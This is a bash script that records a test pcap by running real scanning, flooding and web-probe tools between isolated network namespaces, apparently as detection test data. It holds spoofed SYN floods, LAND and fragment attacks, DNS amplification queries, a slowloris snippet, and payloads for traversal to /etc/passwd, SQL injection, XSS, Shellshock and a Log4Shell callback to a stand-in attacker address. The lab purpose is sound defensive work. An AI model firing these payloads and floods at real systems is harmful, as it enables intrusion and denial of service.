#!/usr/bin/env bash
# Records tests/data/attacks.pcap, for the demo: real use and real attacks on one server, made by real tools in
# namespaces that this script makes and removes again. Nothing leaves the machine.
#
#   clients  198.51.100.10-13 ──┐
#                               ├── router ──(recorded here)── server 203.0.113.10: web, TLS, DNS
#   attacker 192.0.2.66 ────────┘
#
# Real use (curl, dig, ping over IPv4 and IPv6): pages, downloads, an upload, HTTPS, names over UDP and TCP.
# Attacks: scans (nmap: SYN, FIN, Xmas, UDP, versions), floods (hping3: SYN from made-up sources, UDP, ICMP, LAND,
# tiny fragments), requests that look for holes (curl), questions for amplification (dig), many half-open connections.
#
# Usage: scripts/record-attacks.sh [FILE]       (default: tests/data/attacks.pcap, replaced when all went well)
set -euo pipefail

root=$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)
output=${1:-$root/tests/data/attacks.pcap}

die() { echo "record-attacks: $*" >&2; exit 1; }

PATH=$PATH:/usr/sbin:/sbin
# tool:package, as Debian and Ubuntu name it
missing=()
for need in ip:iproute2 tcpdump:tcpdump ethtool:ethtool curl:curl nginx:nginx-light dnsmasq:dnsmasq-base \
    dig:bind9-dnsutils nmap:nmap hping3:hping3 openssl:openssl python3:python3 ping:iputils-ping; do
    command -v "${need%%:*}" >/dev/null || missing+=("${need##*:}")
done
[ ${#missing[@]} -eq 0 ] || die "tools are missing; apt-get install --no-install-recommends ${missing[*]}"
[ "$(id -u)" -eq 0 ] || die "needs root, for network namespaces and recording; run it with sudo"

id=onvm-attacks-$$
clients=$id-clients attacker=$id-attacker router=$id-router server=$id-server
work=$(mktemp -d)
pids=()

cleanup() {
    for pid in "${pids[@]}"; do kill "$pid" 2>/dev/null || true; done
    wait 2>/dev/null || true
    for ns in "$clients" "$attacker" "$router" "$server"; do ip netns delete "$ns" 2>/dev/null || true; done
    rm -rf "$work"
}
trap cleanup EXIT
trap 'exit 1' INT TERM

in_ns() { ip netns exec "$@"; }

# Runs in the background, to be stopped at the end. Spelled out: a function would get a shell of its own,
# which takes the signal and leaves the program running.
start() { ip netns exec "$@" & pids+=($!); }

# A tool of an attacker or client: what it thinks of the answers does not matter, but it must end.
try() { timeout 30 ip netns exec "$@" >>"$work/said" 2>&1 || true; }

# ---- the network ----------------------------------------------------------------------------------------

for ns in "$clients" "$attacker" "$router" "$server"; do
    ip netns add "$ns"
    ip -n "$ns" link set lo up
done
ip -n "$clients" link add up0 type veth peer name down0 netns "$router"
ip -n "$attacker" link add up0 type veth peer name down1 netns "$router"
ip -n "$router" link add net0 type veth peer name net1 netns "$server"
for end in "$clients up0" "$attacker up0" "$router down0" "$router down1" "$router net0" "$server net1"; do
    read -r ns device <<<"$end"
    # Frames as a wire has them: checksums filled in, no segments larger than the MTU.
    in_ns "$ns" ethtool -K "$device" tx off tso off gso off gro off >/dev/null 2>"$work/ethtool" \
        || die "cannot turn off offloads of $device: $(cat "$work/ethtool")"
    in_ns "$ns" sysctl -qw "net.ipv6.conf.$device.accept_dad=0" "net.ipv6.conf.$device.router_solicitations=0"
    ip -n "$ns" link set "$device" up
done
for host in 10 11 12 13; do
    ip -n "$clients" address add "198.51.100.$host/24" dev up0
    ip -n "$clients" address add "2001:db8:100::$host/64" dev up0
done
ip -n "$router" address add 198.51.100.1/24 dev down0
ip -n "$router" address add 2001:db8:100::1/64 dev down0
ip -n "$attacker" address add 192.0.2.66/24 dev up0
ip -n "$router" address add 192.0.2.1/24 dev down1
ip -n "$router" address add 203.0.113.1/24 dev net0
ip -n "$router" address add 2001:db8:113::1/64 dev net0
ip -n "$server" address add 203.0.113.10/24 dev net1
ip -n "$server" address add 2001:db8:113::10/64 dev net1
ip -n "$clients" route add default via 198.51.100.1
ip -n "$clients" route add default via 2001:db8:100::1
ip -n "$attacker" route add default via 192.0.2.1
ip -n "$server" route add default via 203.0.113.1
ip -n "$server" route add default via 2001:db8:113::1
# Answers to made-up sources end here, in silence.
ip -n "$router" route add blackhole default
in_ns "$router" sysctl -qw net.ipv4.ip_forward=1 net.ipv6.conf.all.forwarding=1 net.ipv4.conf.all.rp_filter=0 \
    net.ipv4.conf.down1.rp_filter=0
in_ns "$server" sysctl -qw net.ipv4.icmp_ratelimit=0 net.ipv4.tcp_synack_retries=1

# ---- the server -----------------------------------------------------------------------------------------

mkdir -p "$work/www" "$work/tmp"
head -c 20000 /dev/zero | tr '\0' 'o' >"$work/www/download"
echo '<html><body>onvm</body></html>' >"$work/www/index.html"
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 -subj /CN=www.onvm.test \
    -keyout "$work/key.pem" -out "$work/cert.pem" 2>"$work/openssl" || die "openssl: $(cat "$work/openssl")"
cat >"$work/nginx.conf" <<NGINX
user root; daemon off; master_process off; pid $work/nginx.pid; error_log $work/error.log;
events {}
http {
    access_log off; client_body_temp_path $work/tmp; proxy_temp_path $work/tmp; fastcgi_temp_path $work/tmp;
    uwsgi_temp_path $work/tmp; scgi_temp_path $work/tmp;
    server {
        listen 80; listen [::]:80; listen 443 ssl; listen [::]:443 ssl;
        ssl_certificate $work/cert.pem; ssl_certificate_key $work/key.pem;
        root $work/www;
        location /upload { return 201; }
    }
}
NGINX
start "$server" nginx -p "$work" -c "$work/nginx.conf" 2>/dev/null
start "$server" dnsmasq --no-daemon --no-resolv --no-hosts --local=/onvm.test/ --pid-file= --user=root \
    --address=/www.onvm.test/203.0.113.10 --address=/www.onvm.test/2001:db8:113::10 \
    --txt-record=onvm.test,"$(head -c 200 /dev/zero | tr '\0' x)" 2>/dev/null
for _ in $(seq 50); do
    in_ns "$server" curl -s -o /dev/null http://203.0.113.10/ && break
    sleep 0.1
done
in_ns "$server" curl -s -o /dev/null http://203.0.113.10/ || die "nginx does not start: $(cat "$work/error.log")"

start "$router" tcpdump -Z root -i net0 -n -B 16384 --time-stamp-precision=nano -w "$work/attacks.pcap" \
    2>"$work/tcpdump"
recorder=${pids[-1]}
for _ in $(seq 50); do grep -q listening "$work/tcpdump" && break; sleep 0.1; done
grep -q listening "$work/tcpdump" || die "tcpdump does not start: $(cat "$work/tcpdump")"

# ---- real use -------------------------------------------------------------------------------------------

web=203.0.113.10 web6='[2001:db8:113::10]'
use() { # host of a client: a little of everything
    local from=198.51.100.$1 from6=2001:db8:100::$1
    try "$clients" dig -b "$from" @203.0.113.10 www.onvm.test A www.onvm.test AAAA nothing.onvm.test A +tries=1 +time=2
    try "$clients" curl -s -o /dev/null --interface "$from" "http://$web/" "http://$web/download"
    try "$clients" curl -s -o /dev/null --interface "$from6" -g "http://$web6/" "http://$web6/nothing"
    try "$clients" curl -sk -o /dev/null --interface "$from" --resolve "www.onvm.test:443:$web" https://www.onvm.test/
    try "$clients" curl -s -o /dev/null --interface "$from" --data-binary "@$work/www/index.html" "http://$web/upload"
}
echo "record-attacks: recording, about 30 seconds" >&2
for host in 10 11 12; do use "$host"; done
try "$clients" ping -c 3 -i 0.2 -I 198.51.100.10 203.0.113.10
try "$clients" ping -c 3 -i 0.2 -I 2001:db8:100::11 2001:db8:113::10
try "$clients" dig -b 198.51.100.11 @203.0.113.10 onvm.test TXT +tcp +tries=1 +time=2

# ---- attacks, with real use between them ----------------------------------------------------------------

scan=(nmap -n -Pn --disable-arp-ping --max-retries 0 -T4)
try "$attacker" "${scan[@]}" -sS -p 1-400 203.0.113.10
use 13
try "$attacker" "${scan[@]}" -sF -p 20-60 203.0.113.10
try "$attacker" "${scan[@]}" -sX -p 60-100 203.0.113.10
try "$attacker" "${scan[@]}" -sU -p 53,67,123,137,161,500,1900,5353 203.0.113.10
try "$attacker" "${scan[@]}" -sV --version-light -p 22,53,80 203.0.113.10
use 10
try "$attacker" hping3 -q -c 500 -i u1000 --rand-source -S -p 80 203.0.113.10
try "$attacker" hping3 -q -c 200 -i u1000 --udp -p 33434 -d 64 203.0.113.10
try "$attacker" hping3 -q -c 100 -i u1000 --icmp -d 400 203.0.113.10
try "$attacker" hping3 -q -c 5 -i u10000 -S -a 203.0.113.10 -s 80 -k -p 80 203.0.113.10
try "$attacker" hping3 -q -c 10 -i u10000 -S -p 80 -f -d 64 203.0.113.10
use 11
for path in '/../../../../etc/passwd' "/?id=1%27%20OR%20%271%27=%271" '/cgi-bin/test.cgi' '/wp-login.php' \
    '/?q=<script>alert(1)</script>'; do
    try "$attacker" curl -s -o /dev/null --path-as-is "http://$web$path"
done
# shellcheck disable=SC2016 # this is what attackers send, not a variable
try "$attacker" curl -s -o /dev/null -A '() { :;}; /bin/cat /etc/passwd' -H 'X-Api: ${jndi:ldap://192.0.2.66/a}' \
    "http://$web/"
for _ in 1 2 3 4 5; do try "$attacker" dig @203.0.113.10 onvm.test ANY +notcp +bufsize=4096 +tries=1 +time=1; done
# Connections that are opened and say nothing, until the end.
start "$attacker" python3 -c '
import socket, time
held = []
for _ in range(40):
    held.append(socket.create_connection(("203.0.113.10", 80), 2))
    held[-1].sendall(b"GET / HTTP/1.1\r\nX-Slow: ")
time.sleep(3)'
sleep 0.5
use 12
sleep 3

kill -INT "$recorder"
for _ in $(seq 100); do kill -0 "$recorder" 2>/dev/null || break; sleep 0.1; done
grep -q '^0 packets dropped by kernel' "$work/tcpdump" || die "tcpdump lost packets: $(cat "$work/tcpdump")"

# ---- what is in it --------------------------------------------------------------------------------------

text() { tcpdump -nr "$work/attacks.pcap" "$@" 2>/dev/null; }
count() { printf '  %-42s %6d\n' "$1" "$(text "${@:2}" | wc -l)"; }
must() { # what, how many at least, filter
    local n
    n=$(text "${@:3}" | wc -l)
    [ "$n" -ge "$2" ] || die "only $n packets of $1; what the tools said is: $(tail -5 "$work/said")"
    count "$1" "${@:3}"
}

size=$(stat -c %s "$work/attacks.pcap")
echo "$output: $size bytes, $(text | wc -l) packets"
must "clients, web" 100 'net 198.51.100.0/24 and tcp port 80'
must "clients, HTTPS" 30 'net 198.51.100.0/24 and tcp port 443'
must "clients, names" 20 'net 198.51.100.0/24 and port 53'
must "clients, IPv6" 50 'ip6 and net 2001:db8:100::/64'
must "attacker" 500 'host 192.0.2.66'
must "  FIN and Xmas scan" 40 'src 192.0.2.66 and tcp[13] & 0x17 = 1'
must "  UDP" 200 'src 192.0.2.66 and udp'
must "  ICMP flood" 100 'src 192.0.2.66 and icmp[0] = 8'
must "  fragments" 10 'ip[6:2] & 0x3fff != 0'
must "  amplification" 5 'src 192.0.2.66 and udp dst port 53'
must "made-up sources" 400 'dst 203.0.113.10 and tcp[13] = 2 and not net 198.51.100.0/24 and not net 192.0.2.0/24'
must "LAND" 5 'src 203.0.113.10 and dst 203.0.113.10'
[ "$size" -lt 1000000 ] || die "$size bytes are too many for a repository"

mkdir -p "$(dirname "$output")"
mv "$work/attacks.pcap" "$output.new" && chmod 644 "$output.new" && mv "$output.new" "$output"
